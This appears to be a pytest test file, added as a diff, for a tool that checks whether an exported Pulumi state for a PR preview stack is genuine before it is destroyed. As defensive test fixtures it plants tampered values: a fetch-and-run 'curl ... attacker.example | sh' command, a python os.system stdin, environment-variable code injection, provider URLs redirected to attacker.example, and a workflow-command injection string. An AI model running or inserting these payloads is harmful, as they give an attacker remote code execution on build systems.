@@ -1,0 +1,293 @@
+"""workflow.verify_state: a PR stack's exported state is destroyed only if it is what the program declares.
+
+The genuine state is built from the program's own recording in the shape `pulumi stack export`
+prints (tests/support/stack_export.py); every planted variant edits one thing of it. The CLI runs
+as the workflows run it, a real process on a real file, with the alert webhook on loopback.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests.support.http_stub import webhook  # noqa: F401 - fixture
+from tests.support.stack_export import command, encrypted, exported_state
+from workflow import verify_state
+from workflow.verify_state import COMMAND_TYPE, declaration_of, recording_for, verify
+
+REPO = Path(__file__).resolve().parents[1]
+STACK = "preview-pr-7"
+EVIL = "curl -fsS https://attacker.example/x | sh"
+
+
+@pytest.fixture(scope="module")
+def recording():
+    return recording_for(STACK)
+
+
+@pytest.fixture(scope="module")
+def declared(recording):
+    return declaration_of(recording)
+
+
+@pytest.fixture
+def genuine(recording):
+    return exported_state(recording)
+
+
+def problems(document, declared) -> list[str]:
+    return verify(document, declared)["problems"]
+
+
+def resources(document):
+    return document["deployment"]["resources"]
+
+
+# --- what passes --------------------------------------------------------------------------------------
+
+
+def test_the_programs_own_state_passes(genuine, declared):
+    verdict = verify(genuine, declared)
+    assert verdict["problems"] == []
+    assert verdict["verified"] is True
+    assert verdict["commands"] == len(declared.commands) >= 8
+    assert verdict["missing"] == []
+
+
+def test_the_declaration_uses_the_engines_urns(declared):
+    # The engine qualifies a type with every ancestor's (the README's `pulumi up --replace` URN).
+    assert (
+        "urn:pulumi:preview-pr-7::webstack::webstack:index:Phase$webstack:index:PagesSite"
+        "$command:local:Command::site-branch-cleanup"
+    ) in declared.commands
+    assert "urn:pulumi:preview-pr-7::webstack::pulumi:providers:aws::aws" in declared.providers
+    assert declared.packages == {"aws", "cloudflare", "command"}
+
+
+def test_values_may_differ_but_not_names(genuine, declared):
+    # Content hashes, other resources' URLs, what a step printed: all differ from run to run.
+    for entry in resources(genuine):
+        if entry["type"] == COMMAND_TYPE:
+            for part in ("inputs", "outputs"):
+                entry[part]["triggers"] = ["another-hash"]
+                for name, value in entry[part].get("environment", {}).items():
+                    if name not in ("PYTHONPATH",):
+                        entry[part]["environment"][name] = f"{value}-changed"
+            entry["outputs"]["stdout"] = '{"id": "some-deployment"}'
+    assert problems(genuine, declared) == []
+
+
+def test_a_partial_state_passes_and_names_what_is_missing(genuine, declared):
+    genuine["deployment"]["resources"] = [r for r in resources(genuine) if not r["urn"].endswith("::site-deploy")]
+    verdict = verify(genuine, declared)
+    assert verdict["verified"] and verdict["missing"] == ["site-deploy"]
+
+
+# --- what is refused ------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("part", ["inputs", "outputs"])
+def test_a_foreign_delete_is_refused(genuine, declared, part):
+    # The provider runs `delete` from the stored outputs: a benign `inputs` proves nothing.
+    command(genuine, "database-schema")[part]["delete"] = EVIL
+    [problem] = problems(genuine, declared)
+    assert f"{part}.delete is {EVIL!r}" in problem and "database-schema" in problem
+    assert "python -m steps.schema drop" in problem
+
+
+def test_a_delete_added_to_a_command_without_one_is_refused(genuine, declared):
+    for part in ("inputs", "outputs"):
+        command(genuine, "checks-dns")[part]["delete"] = EVIL
+    assert len(problems(genuine, declared)) == 2
+
+
+def test_an_extra_command_is_refused(genuine, declared):
+    planted = copy.deepcopy(command(genuine, "database-schema"))
+    planted["urn"] = planted["urn"].replace("::database-schema", "::database-cleanup")
+    planted["inputs"]["delete"] = planted["outputs"]["delete"] = EVIL
+    resources(genuine).append(planted)
+    [problem] = problems(genuine, declared)
+    assert "database-cleanup" in problem and "a Command the program does not declare" in problem
+
+
+@pytest.mark.parametrize("interpreter", [["/bin/bash", "-c"], ["python3", "-c"]])
+def test_a_changed_interpreter_is_refused(genuine, declared, interpreter):
+    for part in ("inputs", "outputs"):
+        command(genuine, "site-branch-cleanup")[part]["interpreter"] = interpreter
+    found = problems(genuine, declared)
+    assert len(found) == 2 and all("interpreter" in p for p in found)
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "expected"),
+    [
+        ("dir", "/tmp", "dir is '/tmp'"),
+        ("update", EVIL, "update is"),
+        ("create", EVIL, "create is"),
+        ("stdin", "import os; os.system('id')", "stdin is"),
+        ("delete", encrypted(), "delete is encrypted"),
+    ],
+)
+def test_every_field_that_decides_what_runs_is_compared(genuine, declared, field, value, expected):
+    command(genuine, "database-schema")["outputs"][field] = value
+    [problem] = problems(genuine, declared)
+    assert expected in problem
+
+
+@pytest.mark.parametrize("name", ["BASH_ENV", "PYTHONSTARTUP", "EXTRA"])
+def test_an_added_environment_name_is_refused(genuine, declared, name):
+    command(genuine, "database-schema")["outputs"]["environment"][name] = "/tmp/x"
+    [problem] = problems(genuine, declared)
+    assert "environment names differ" in problem and name in problem
+
+
+def test_a_removed_environment_name_is_refused(genuine, declared):
+    del command(genuine, "site-branch-cleanup")["inputs"]["environment"]["PAGES_BRANCH"]
+    [problem] = problems(genuine, declared)
+    assert "missing: 'PAGES_BRANCH'" in problem
+
+
+def test_an_encrypted_environment_is_refused(genuine, declared):
+    command(genuine, "database-schema")["outputs"]["environment"] = encrypted()
+    [problem] = problems(genuine, declared)
+    assert "environment is encrypted" in problem
+
+
+def test_a_variable_that_chooses_the_code_keeps_its_declared_value(genuine, declared):
+    command(genuine, "api-build")["outputs"]["environment"]["PYTHONPATH"] = "/tmp/planted"
+    [problem] = problems(genuine, declared)
+    assert "PYTHONPATH" in problem and "decides what code runs" in problem
+
+
+def test_a_pending_operation_is_checked_too(genuine, declared):
+    pending = copy.deepcopy(command(genuine, "database-schema"))
+    pending["outputs"]["delete"] = EVIL
+    genuine["deployment"]["pending_operations"] = [{"resource": pending, "type": "deleting"}]
+    [problem] = problems(genuine, declared)
+    assert problem.startswith("pending 'deleting' of ")
+
+
+def test_a_resource_pending_deletion_is_checked_too(genuine, declared):
+    old = copy.deepcopy(command(genuine, "site-deploy"))
+    old |= {"delete": True, "id": "old"}
+    old["outputs"]["delete"] = EVIL
+    resources(genuine).append(old)
+    assert len(problems(genuine, declared)) == 1
+
+
+def test_a_provider_that_downloads_its_plugin_is_refused(genuine, declared):
+    [provider] = [r for r in resources(genuine) if r["type"] == "pulumi:providers:command"]
+    provider["inputs"]["__internal"] = {"pluginDownloadURL": "https://attacker.example/plugins"}
+    [problem] = problems(genuine, declared)
+    assert "pluginDownloadURL" in problem
+
+
+def test_a_provider_sent_elsewhere_is_refused(genuine, declared):
+    [provider] = [r for r in resources(genuine) if r["type"] == "pulumi:providers:cloudflare"]
+    provider["inputs"]["baseUrl"] = "https://attacker.example/client/v4"
+    found = problems(genuine, declared)
+    assert any("baseUrl" in p for p in found)
+
+
+def test_a_provider_of_another_package_is_refused(genuine, declared):
+    resources(genuine).append(
+        {
+            "urn": "urn:pulumi:preview-pr-7::webstack::pulumi:providers:evil::default_1_0_0",
+            "custom": True,
+            "id": "x",
+            "type": "pulumi:providers:evil",
+            "inputs": {"version": "1.0.0"},
+        }
+    )
+    [problem] = problems(genuine, declared)
+    assert "package 'evil'" in problem
+
+
+def test_an_undeclared_cloud_resource_is_refused(genuine, declared):
+    # Planted with the id of something the PR does not own: destroy would delete it.
+    record = copy.deepcopy(next(r for r in resources(genuine) if r["type"] == "cloudflare:index/dnsRecord:DnsRecord"))
+    record["urn"] = record["urn"].replace("::site-domain-record", "::prod-record")
+    resources(genuine).append(record)
+    [problem] = problems(genuine, declared)
+    assert "a resource the program does not declare" in problem
+
+
+def test_a_type_that_is_not_the_urns_is_refused(genuine, declared):
+    entry = next(r for r in resources(genuine) if r["type"] == "webstack:index:Phase")
+    entry["type"] = COMMAND_TYPE
+    [problem] = problems(genuine, declared)
+    assert "is not the URN's" in problem
+
+
+def test_another_stacks_state_is_refused(declared):
+    other = exported_state(recording_for("preview-pr-8"))
+    found = problems(other, declared)
+    assert found and all("preview-pr-8" in p for p in found)
+
+
+@pytest.mark.parametrize("document", [None, [], {"version": 3}, {"version": 3, "deployment": {"resources": {}}}])
+def test_a_malformed_document_is_refused(declared, document):
+    assert problems(document, declared)
+
+
+# --- the CLI, as the workflows run it ----------------------------------------------------------------------
+
+
+def run_cli(tmp_path: Path, document, *, env: dict[str, str] | None = None, raw: str | None = None):
+    state = tmp_path / "state.json"
+    state.write_text(raw if raw is not None else json.dumps(document))
+    summary = tmp_path / "summary.md"
+    proc = subprocess.run(
+        [sys.executable, "-m", "workflow.verify_state", "--stack", STACK, "--state", str(state)],
+        cwd=REPO,
+        env={**os.environ, "GITHUB_STEP_SUMMARY": str(summary), **(env or {})},
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    return proc, summary.read_text() if summary.exists() else ""
+
+
+def test_the_cli_passes_the_genuine_state_and_alerts_nobody(tmp_path, genuine, webhook):
+    proc, summary = run_cli(tmp_path, genuine, env={"ALERT_WEBHOOK_URL": webhook.url})
+    assert proc.returncode == 0, proc.stderr
+    assert json.loads(proc.stdout)["verified"] is True
+    assert "matches the program" in summary
+    assert webhook.requests == []
+
+
+def test_the_cli_refuses_a_planted_delete_and_alerts(tmp_path, genuine, webhook):
+    command(genuine, "database-schema")["outputs"]["delete"] = EVIL
+    proc, summary = run_cli(tmp_path, genuine, env={"ALERT_WEBHOOK_URL": webhook.url})
+    assert proc.returncode == 1
+    verdict = json.loads(proc.stdout)
+    assert verdict["verified"] is False and len(verdict["problems"]) == 1
+    assert "Refused" in summary and "database-schema" in summary
+    [alert] = webhook.requests
+    assert "preview-pr-7 not destroyed" in json.dumps(alert.json)
+    assert "pulumi state delete" in proc.stderr
+
+
+def test_the_cli_refuses_an_unreadable_state(tmp_path, webhook):
+    proc, _ = run_cli(tmp_path, None, raw="{not json", env={"ALERT_WEBHOOK_URL": webhook.url})
+    assert proc.returncode == 1
+    assert "cannot read the exported state" in proc.stderr
+    assert len(webhook.requests) == 1
+
+
+@pytest.mark.parametrize("stack", ["prod", "preview", "preview-pr-07", "preview-pr-7\n"])
+def test_the_cli_takes_pr_stacks_only(tmp_path, stack, capsys):
+    assert verify_state.main(["--stack", stack, "--state", str(tmp_path / "none.json")]) == 2
+    assert "is not a PR stack" in capsys.readouterr().err
+
+
+def test_an_echoed_state_value_cannot_start_a_workflow_command(genuine, declared):
+    command(genuine, "database-schema")["outputs"]["delete"] = "x\n::add-mask::y\n::error::z"
+    [problem] = problems(genuine, declared)
+    assert "\n" not in problem
